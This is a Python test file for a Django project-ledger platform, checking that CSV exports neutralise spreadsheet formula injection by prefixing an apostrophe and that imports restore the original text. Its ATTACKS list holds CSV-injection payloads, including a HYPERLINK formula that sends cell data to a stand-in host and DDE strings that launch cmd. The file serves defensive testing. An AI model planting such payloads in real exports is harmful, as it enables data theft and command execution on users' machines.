"""No CSV the platform writes can run as a formula in Excel or WPS: a text that begins with
=, +, -, @ (or a tab or carriage return) is put behind an apostrophe; numbers — a negative
amount, a text that is a plain number — stay numbers; the importer reads the cell back as
it was typed."""

import csv
import io
from decimal import Decimal

import pytest

from xiezuo.core.export import restore_cell, safe_cell
from xiezuo.ledgers.testing import export_text
from xiezuo.projects.ledger import ProjectLedger
from xiezuo.projects.models import Project, Sector
from xiezuo.regions.models import Region

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text_and_reads_back_as_it_was(text) -> None:
    cell = safe_cell(text)
    assert cell == "'" + text
    assert restore_cell(cell) == text


@pytest.mark.parametrize("value", [Decimal("-1500.00"), -3, 2024, 0.5, "-3", "+12.5", "-1,5",
                                   "1e3", "-5%", "", "普通文字", "-", "临夏市-积石山县"])
def test_numbers_and_plain_text_stay_as_they_are(value) -> None:
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert restore_cell(value) == value


@pytest.mark.django_db
def test_the_ledger_export_neutralises_every_formula(login, demo) -> None:
    pairing = demo["pairings"]["szq-lxs"]
    region = Region.objects.get(code="622901", valid_to__isnull=True)
    Project.objects.create(
        pairing=pairing, region=region, year=2024, name=ATTACKS[0], township=ATTACKS[1],
        implementing_unit=ATTACKS[2], content=ATTACKS[3], notes=ATTACKS[4],
        budget_fiscal=Decimal("1500000"), sector=Sector.objects.get(code="industry"))
    text = export_text(login("linxiashi_entry"), ProjectLedger, "csv")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell[1:2].isdigit(), cell
    assert "'" + ATTACKS[0] in cells
    assert "150.00" in cells or "150" in cells  # the amount (万元) is still a number
